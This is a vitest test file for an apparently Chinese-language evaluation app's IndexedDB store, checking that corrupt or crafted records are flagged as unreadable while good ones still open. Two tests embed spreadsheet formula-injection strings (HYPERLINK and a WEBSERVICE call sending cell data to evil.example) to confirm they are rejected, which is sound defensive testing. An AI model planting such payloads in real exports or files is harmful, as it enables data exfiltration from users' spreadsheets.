/**
 * Records written straight into IndexedDB (as another version, an extension or DevTools
 * could), each broken one way: the bad one is listed as unreadable, with its raw data to
 * download, and every good one still lists and opens. Nothing throws anything but a
 * StorageError with a Chinese message.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { EvaluationStore } from '../../../src/storage/evaluation-store.ts';
import { StorageError } from '../../../src/storage/errors.ts';
import { watchUnreadable } from '../../../src/storage/unreadable-watch.ts';
import { watchEvaluation } from '../../../src/storage/cross-tab.ts';
import type { StoredEvaluation } from '../../../src/storage/types.ts';
import type { JixiaoDB } from '../../../src/storage/db.ts';
import type { Evaluation, Indicator } from '../../../src/domain/index.ts';
import { Databases, evaluation, summaryOf, uniqueName, waitFor } from './fixtures.ts';

const dbs = new Databases();
afterEach(() => dbs.cleanup());

/** Two good evaluations, stored the ordinary way. */
async function setUp(): Promise<{ db: JixiaoDB; store: EvaluationStore }> {
  const db = dbs.open(uniqueName('corrupt'));
  const store = new EvaluationStore(db);
  const good = [evaluation('good-1', '项目甲'), evaluation('good-2', '项目乙')];
  await store.create(good, good.map((e) => summaryOf(e)));
  return { db, store };
}

/** Writes a record as-is, bypassing the store's checks. */
async function putRaw(db: JixiaoDB, id: string, document: unknown, summary: Record<string, unknown> | null = {}, revision: unknown = 1): Promise<void> {
  const updatedAt = Date.now();
  await db.evaluations.put({ id, revision, updatedAt, evaluation: document } as never);
  if (summary) await db.summaries.put({ id, projectName: '坏记录', year: '2023', type: '自评', total: 50, grade: '差', updatedAt, revision: 1, ...summary } as never);
}

/** The good ones list and open, whatever else is stored. */
async function expectGoodOnesWork(store: EvaluationStore): Promise<void> {
  const { summaries } = await store.listHome();
  expect(summaries.map((s) => s.id).sort()).toEqual(expect.arrayContaining(['good-1', 'good-2']));
  for (const id of ['good-1', 'good-2']) {
    const loaded = await store.load(id);
    expect(loaded?.evaluation.id).toBe(id);
    expect(loaded?.evaluation.indicators[0]?.children).toHaveLength(2);
  }
}

async function expectUnreadable(store: EvaluationStore, id: string, problem: RegExp): Promise<void> {
  const { summaries, unreadable } = await store.listHome();
  expect(summaries.map((s) => s.id)).not.toContain(id);
  const record = unreadable.find((r) => r.id === id);
  expect(record, `${id} listed as unreadable`).toBeDefined();
  expect(record!.problems.join('；')).toMatch(problem);
  const error = await store.load(id).then(() => null, (e: unknown) => e);
  expect(error).toBeInstanceOf(StorageError);
  expect((error as Error).message).toMatch(/的数据已损坏，无法打开：/);
  expect((error as Error).message).toMatch(problem);
  expect((error as Error).message).not.toMatch(/Cannot read|undefined|null \(/);
}

function cyclic(): Evaluation {
  const e = evaluation('cycle', '循环项目');
  const top = e.indicators[0]!;
  (top.children[0] as Indicator).children.push(top);
  return e;
}

describe('corrupt records in IndexedDB', () => {
  it('a list row whose total is text: the evaluation is listed with the total recomputed, and the rest open', async () => {
    const { db, store } = await setUp();
    await putRaw(db, 'bad-total', evaluation('bad-total', '总分是文字'), { total: 'abc', grade: 7 });
    const { summaries, unreadable } = await store.listHome();
    expect(unreadable).toEqual([]);
    const row = summaries.find((s) => s.id === 'bad-total');
    expect(row).toMatchObject({ projectName: '总分是文字', total: 9, grade: '差' });
    expect((await store.load('bad-total'))?.evaluation.meta.projectName).toBe('总分是文字');
    await expectGoodOnesWork(store);
  });

  it('evaluation: null is unreadable, with a Chinese message, never "Cannot read properties of null"', async () => {
    const { db, store } = await setUp();
    await putRaw(db, 'null-doc', null);
    await expectUnreadable(store, 'null-doc', /数据为空，不是评价/);
    await expectGoodOnesWork(store);
  });

  it('indicators that are not a list, and a missing meta, are unreadable; nothing hangs', async () => {
    const { db, store } = await setUp();
    await putRaw(db, 'no-list', { ...evaluation('no-list'), indicators: { a: 1 } });
    const { meta: _meta, ...noMeta } = evaluation('no-meta');
    await putRaw(db, 'no-meta', noMeta);
    await expectUnreadable(store, 'no-list', /指标列表不是数组/);
    await expectUnreadable(store, 'no-meta', /缺少基本信息/);
    await expectGoodOnesWork(store);
  });

  it('a cyclic indicator (structured clone keeps the cycle) is unreadable, not 884.56 / 100, and its raw JSON downloads', async () => {
    const { db, store } = await setUp();
    await putRaw(db, 'cycle', cyclic());
    await expectUnreadable(store, 'cycle', /指标“决策”：它的下级中又含有它自身（循环引用）/);
    const raw = JSON.parse(await store.rawRecord('cycle')) as { id: string; evaluationRow: { evaluation: Evaluation }; summaryRow: unknown };
    expect(raw.id).toBe('cycle');
    expect(raw.evaluationRow.evaluation.meta.projectName).toBe('循环项目');
    expect(JSON.stringify(raw.evaluationRow)).toContain('"[循环引用]"');
    expect(raw.summaryRow).toMatchObject({ projectName: '坏记录' });
    await expectGoodOnesWork(store);
  });

  it('crafted settings in a stored record are unreadable, naming the field', async () => {
    const { db, store } = await setUp();
    const e = evaluation('crafted') as unknown as { settings: { decimals: unknown } };
    e.settings.decimals = '2)+0*LEN(HYPERLINK("http://evil.example/"))+ROUND(0,0';
    await putRaw(db, 'crafted', e);
    await expectUnreadable(store, 'crafted', /评分设置：小数位数不是数字/);
  });

  it('a bad revision, an id that differs from the document, and a list row without a document', async () => {
    const { db, store } = await setUp();
    await putRaw(db, 'bad-revision', evaluation('bad-revision'), {}, 'x');
    await putRaw(db, 'other-id', evaluation('something-else'));
    await db.summaries.put({ ...summaryOf(evaluation('orphan'), 1), revision: 1 });
    await expectUnreadable(store, 'bad-revision', /版本号无效/);
    await expectUnreadable(store, 'other-id', /记录编号与评价编号不一致/);
    const { unreadable } = await store.listHome();
    expect(unreadable.find((r) => r.id === 'orphan')).toMatchObject({ projectName: '项目orphan', problems: [expect.stringMatching(/评价数据本身已不存在/)] });
    // Deleting the orphan row removes it; the list is clean again.
    await store.remove('orphan');
    expect((await store.listHome()).unreadable.map((r) => r.id)).not.toContain('orphan');
    await expectGoodOnesWork(store);
  });

  it('an unreadable record can be deleted to the trash and restored from it, unchanged', async () => {
    const { db, store } = await setUp();
    await putRaw(db, 'null-doc', null);
    await store.remove('null-doc');
    expect((await store.listHome()).unreadable).toEqual([]);
    expect((await store.listTrash()).map((t) => t.id)).toEqual(['null-doc']);
    await store.restore('null-doc');
    await expectUnreadable(store, 'null-doc', /数据为空/);
    expect((await db.evaluations.get('null-doc'))?.evaluation).toBeNull();
  });

  it('a record repaired in place (new updatedAt) lists again: the check is not cached past a change', async () => {
    const { db, store } = await setUp();
    await putRaw(db, 'later-fixed', null);
    await expectUnreadable(store, 'later-fixed', /数据为空/);
    await new Promise((r) => setTimeout(r, 3));
    await putRaw(db, 'later-fixed', evaluation('later-fixed', '修好了'));
    const { summaries, unreadable } = await store.listHome();
    expect(unreadable).toEqual([]);
    expect(summaries.find((s) => s.id === 'later-fixed')?.projectName).toBe('坏记录');
    expect((await store.load('later-fixed'))?.evaluation.meta.projectName).toBe('修好了');
  });

  it('a NUL stored in a text is removed when read, and never written again', async () => {
    const { db, store } = await setUp();
    await putRaw(db, 'nul', evaluation('nul', '带\u0000NUL的项目'));
    const loaded = await store.load('nul');
    expect(loaded?.evaluation.meta.projectName).toBe('带NUL的项目');
    const typed = { ...loaded!.evaluation, meta: { ...loaded!.evaluation.meta, notes: '备\u0000注' } };
    const saved = await store.save(typed, summaryOf(typed), loaded!.revision);
    expect(saved.ok).toBe(true);
    const row = await db.evaluations.get('nul');
    expect(row?.evaluation.meta.notes).toBe('备注');
    expect(row?.evaluation.meta.projectName).toBe('带NUL的项目');
  });

  it('a save whose text is over 100,000 characters is refused with the field named; nothing is written', async () => {
    const { db, store } = await setUp();
    const loaded = await store.load('good-1');
    const long = { ...loaded!.evaluation, meta: { ...loaded!.evaluation.meta, notes: '长'.repeat(100_001) } };
    const saved = await store.save(long, summaryOf(long), loaded!.revision);
    expect(saved).toMatchObject({ ok: false, quota: false, error: expect.stringMatching(/基本信息：备注长 100,001 字，超过 100,000 字的上限.*未保存，修改仍保留在本页面中/) });
    expect((await db.evaluations.get('good-1'))?.revision).toBe(1);
  });

  it('a record stored before texts were bounded opens whole; its next save asks to shorten', async () => {
    const { db, store } = await setUp();
    const long = evaluation('long', '长文本');
    long.indicators[0]!.children[0]!.reason = '原'.repeat(200_000);
    await putRaw(db, 'long', long);
    expect((await store.listHome()).summaries.map((s) => s.id)).toContain('long');
    const loaded = await store.load('long');
    expect(loaded?.evaluation.indicators[0]?.children[0]?.reason).toHaveLength(200_000);
    const saved = await store.save(loaded!.evaluation, summaryOf(loaded!.evaluation), loaded!.revision);
    expect(saved).toMatchObject({ ok: false, error: expect.stringContaining('指标“立项依据充分性”：扣分原因长 200,000 字') });
    expect((await db.evaluations.get('long'))?.evaluation.indicators[0]?.children[0]?.reason).toHaveLength(200_000);
  });

  it('create refuses a crafted document before anything is written', async () => {
    const { db, store } = await setUp();
    const e = evaluation('crafted-create');
    (e.settings.gradeScale.bands[1] as { min: unknown }).min = '80,"良")&WEBSERVICE("http://evil.example/?d="&C3)&IF(FALSE';
    const error = await store.create([e], [summaryOf(e)]).then(() => null, (x: unknown) => x);
    expect((error as Error).message).toMatch(/评分设置：等级“良”的下限不是数字.*（本次未写入任何评价）/);
    expect(await db.evaluations.get('crafted-create')).toBeUndefined();
  });

  it('a corrupt revision from another tab never reaches the open page; its next good one does', async () => {
    const { db, store } = await setUp();
    await store.load('good-1');
    const heard: StoredEvaluation[] = [];
    const stop = watchEvaluation('good-1', (stored) => heard.push(stored), { store });
    try {
      const other = new EvaluationStore(dbs.open(db.name));
      await other.db.evaluations.put({ id: 'good-1', revision: 2, updatedAt: Date.now(), evaluation: { ...evaluation('good-1'), indicators: 'x' } } as never);
      await other.db.summaries.put({ ...summaryOf(evaluation('good-1')), revision: 2 });
      await new Promise((r) => setTimeout(r, 300));
      expect(heard).toEqual([]);
      const fixed = evaluation('good-1', '修好了');
      await other.db.evaluations.put({ id: 'good-1', revision: 3, updatedAt: Date.now(), evaluation: fixed });
      await other.db.summaries.put({ ...summaryOf(fixed), revision: 3 });
      const got = await waitFor(() => heard[0], 3000);
      expect(got.revision).toBe(3);
      expect(got.evaluation.meta.projectName).toBe('修好了');
    } finally {
      stop();
    }
  });

  it('the home list of unreadable records is live (watchUnreadable)', async () => {
    const { db, store } = await setUp();
    let seen: string[] | undefined;
    const stop = watchUnreadable((list) => (seen = list.map((r) => r.id)), { store });
    try {
      await waitFor(() => (seen && seen.length === 0 ? seen : undefined), 3000);
      await putRaw(db, 'null-doc', null);
      await waitFor(() => (seen?.includes('null-doc') ? seen : undefined), 3000);
      await store.remove('null-doc');
      await waitFor(() => (seen && !seen.includes('null-doc') ? seen : undefined), 3000);
    } finally {
      stop();
    }
  });
});
